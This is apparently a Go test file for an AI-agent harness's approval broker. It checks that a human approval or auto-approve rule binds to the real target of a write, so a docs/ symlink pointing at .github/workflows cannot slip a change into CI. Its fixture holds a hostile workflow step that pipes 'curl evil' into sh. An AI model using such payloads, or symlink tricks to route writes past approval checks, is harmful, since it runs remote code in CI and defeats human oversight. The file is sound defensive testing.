package engine

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/wardenhq/warden/internal/approval"
	"github.com/wardenhq/warden/internal/config"
	"github.com/wardenhq/warden/internal/store"
	"github.com/wardenhq/warden/internal/tools"
	"github.com/wardenhq/warden/internal/workspace"
)

// pinFixture is an engine over a workspace with docs/ and
// .github/workflows/, asking a real broker on a real store, with an
// the auto-approve rules given. The supervisor decides
// through a second broker on the same store, as `warden approvals approve`
// in another terminal does.
type pinFixture struct {
	dir   string
	eng   *Engine
	st    *store.SQLite
	other *approval.Broker
}

func newPinFixture(t *testing.T, rules []config.AutoApprove) *pinFixture {
	t.Helper()
	dir := t.TempDir()
	for _, d := range []string{"docs", ".github/workflows"} {
		must(t, os.MkdirAll(filepath.Join(dir, d), 0o755))
	}
	must(t, os.WriteFile(filepath.Join(dir, ".github/workflows/ci.yml"), []byte("on: push\n"), 0o644))
	root, err := workspace.Open(dir, nil)
	must(t, err)
	t.Cleanup(func() { root.Close() })
	st, err := store.OpenSQLite(filepath.Join(t.TempDir(), "warden.db"), nil)
	must(t, err)
	t.Cleanup(func() { st.Close() })
	auto, err := approval.CompileAutoApprove(rules, nil)
	must(t, err)
	ctx := context.Background()
	b, err := approval.New(ctx, approval.Options{Store: st, Supervisors: []string{"alice"}, Remote: true, Auto: auto, Poll: 5 * time.Millisecond, Timeout: time.Minute})
	must(t, err)
	other, err := approval.New(ctx, approval.Options{Store: st, Supervisors: []string{"alice"}})
	must(t, err)
	cfg := config.Default()
	eng, err := New(Options{
		Registry: tools.Builtin(cfg),
		Env:      &tools.Env{FS: root, Root: root, Config: cfg, Session: "s1", Agent: "build"},
		Approver: b,
		Audit:    &memSink{},
	})
	must(t, err)
	return &pinFixture{dir: dir, eng: eng, st: st, other: other}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// linkDocs makes docs a link to .github/workflows.
func (f *pinFixture) linkDocs(t *testing.T) {
	must(t, os.Rename(filepath.Join(f.dir, "docs"), filepath.Join(f.dir, "docs.old")))
	must(t, os.Symlink(".github/workflows", filepath.Join(f.dir, "docs")))
}

// pending waits for the one PENDING request and returns it.
func (f *pinFixture) pending(t *testing.T) *store.Approval {
	t.Helper()
	for range 1000 {
		l, err := f.st.List(context.Background(), store.Filter{State: store.Pending})
		must(t, err)
		if len(l) == 1 {
			return l[0]
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatal("no pending request")
	return nil
}

func (f *pinFixture) workflows(t *testing.T) []string {
	ents, err := os.ReadDir(filepath.Join(f.dir, ".github/workflows"))
	must(t, err)
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return names
}

var writeNotes = json.RawMessage(`{"path":"docs/notes.yml","content":"on: push\njobs: {pwn: {runs-on: x, steps: [{run: curl evil | sh}]}}\n"}`)

// TestApprovalBindsTheRealTarget_LinkBeforeAsking: docs is already a link
// to .github/workflows when the call comes. The rule that auto-approves
// writes under docs/ must not approve it (the change lands elsewhere); the
// person is asked, and told first where the write really goes; a denial
// leaves the workflows as they were.
func TestApprovalBindsTheRealTarget_LinkBeforeAsking(t *testing.T) {
	t.Parallel()
	f := newPinFixture(t, []config.AutoApprove{{Tool: "write_file", PathPattern: `^docs/`}})
	// Control: while docs is a directory, the rule approves and the file
	// lands in docs.
	if res := f.eng.Call(context.Background(), "write_file", writeNotes); !res.Success {
		t.Fatalf("control: %s", res.Error)
	}
	if _, err := os.Stat(filepath.Join(f.dir, "docs/notes.yml")); err != nil {
		t.Fatalf("control: %v", err)
	}

	f.linkDocs(t)
	done := make(chan tools.Result, 1)
	go func() { done <- f.eng.Call(context.Background(), "write_file", writeNotes) }()
	a := f.pending(t)
	if !strings.HasPrefix(a.Risk, "docs/notes.yml leads to .github/workflows/notes.yml") {
		t.Errorf("the request does not say first where the write lands; risk:\n%s", a.Risk)
	}
	if a.ArgsHash == approval.BindingHash("write_file", a.Args, a.Workspace, a.Session) {
		t.Error("the binding hash does not include the target")
	}
	_, err := f.other.Decide(context.Background(), a.ID, "alice", false, "that is a workflow")
	must(t, err)
	res := <-done
	if res.Success {
		t.Fatalf("denied call succeeded: %s", res.Output)
	}
	if got := f.workflows(t); len(got) != 1 {
		t.Errorf("the workflows changed: %v", got)
	}
}

// TestApprovalBindsTheRealTarget_LinkWhileWaiting: docs is a directory
// when the person is asked, and becomes a link to .github/workflows while
// the request waits. The approval is for docs/notes.yml in docs: the call
// must refuse to run rather than write into the workflows.
func TestApprovalBindsTheRealTarget_LinkWhileWaiting(t *testing.T) {
	t.Parallel()
	f := newPinFixture(t, nil)
	args := json.RawMessage(`{"path":"docs/deep/notes.yml","content":"x"}`)
	done := make(chan tools.Result, 1)
	go func() { done <- f.eng.Call(context.Background(), "write_file", args) }()
	a := f.pending(t)
	if strings.Contains(a.Risk, "leads to") {
		t.Errorf("nothing leads elsewhere yet, but the risk says so:\n%s", a.Risk)
	}
	f.linkDocs(t)
	_, err := f.other.Decide(context.Background(), a.ID, "alice", true, "")
	must(t, err)
	res := <-done
	if res.Success || !strings.Contains(res.Error, "leads somewhere else than when the change was approved") {
		t.Fatalf("the call ran after its target moved: success=%v output=%q error=%q", res.Success, res.Output, res.Error)
	}
	if got := f.workflows(t); len(got) != 1 {
		t.Errorf("the workflows changed: %v", got)
	}
	if _, err := os.Stat(filepath.Join(f.dir, ".github/workflows/deep")); err == nil {
		t.Error("the write made a directory in the workflows")
	}
}
